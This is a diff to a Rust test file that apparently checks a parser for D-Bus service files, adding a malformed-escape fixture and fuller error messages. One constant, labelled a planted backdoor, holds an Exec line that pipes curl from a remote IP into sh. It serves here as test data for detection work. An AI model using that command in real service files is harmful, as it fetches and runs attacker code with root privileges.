@@ -25,9 +25,11 @@ const DOCTYPE: &str = r#"<!DOCTYPE busconfig PUBLIC "-//freedesktop//DTD D-Bus B
  "http://www.freedesktop.org/standards/dbus/1.0/busconfig.dtd">
 "#;
 
-/// The Exec of the planted backdoor, with every quoting rule in play.
+/// The Exec of the planted backdoor as written in the file, with every
+/// quoting rule in play: the key file turns `\\` into `\`, then the shell
+/// rules see `\"` and `\$` inside double quotes.
 const EVIL_EXEC: &str =
-    r#"/bin/sh -c "curl -s http://203.0.113.9/\"p\" | sh; echo \$HOME" 'lit "x"'"#;
+    r#"/bin/sh -c "curl -s http://203.0.113.9/\\"p\\" | sh; echo \\$HOME" 'lit "x"'"#;
 
 struct Fixture {
     dir: tempfile::TempDir,
@@ -124,6 +126,11 @@ User=root\nSystemdService=good.service\nAssumedAppArmorLabel=unconfined\nExec=/t
         std::fs::Permissions::from_mode(0o755),
     )
     .expect("chmod");
+    // `\"` is not a key-file escape: dbus-daemon refuses this file.
+    f.write(
+        "/usr/share/dbus-1/system-services/badescape.service",
+        b"[D-BUS Service]\nName=badescape\nExec=/bin/sh -c \"echo \\\"hi\\\"\"\n",
+    );
     f.write(
         "/usr/share/dbus-1/system-services/mismatch.service",
         &service("org.other", "relative-prog"),
@@ -365,6 +372,19 @@ fn expected() -> Vec<Want> {
     );
     mismatch.name_matches_filename = "0".into();
     v.push(mismatch);
+    let mut badescape = svc(
+        "/usr/share/dbus-1/system-services/badescape.service",
+        "standard",
+        "system",
+        "badescape",
+        r#"/bin/sh -c "echo \"hi\"""#,
+        "/bin/sh",
+        "0",
+    );
+    badescape.error = "/usr/share/dbus-1/system-services/badescape.service: dbus-daemon would \
+refuse this file: line 3: invalid escape \\\" in Exec"
+        .into();
+    v.push(badescape);
     v.push(svc(
         "/usr/share/dbus-1/accessibility-services/org.a11y.service",
         "standard",
@@ -410,7 +430,10 @@ fn expected() -> Vec<Want> {
         "0",
     );
     big.name_matches_filename = "0".into();
-    big.error = format!("{ss}/big.service: larger than 65536 bytes; only the first 65536 parsed");
+    big.error = format!(
+        "{ss}/big.service: larger than 65536 bytes; only the first 65536 parsed \
+(dbus-daemon refuses files over 128 KiB)"
+    );
     v.push(big);
     let mut garbage = file(
         &format!("{ss}/garbage.service"),
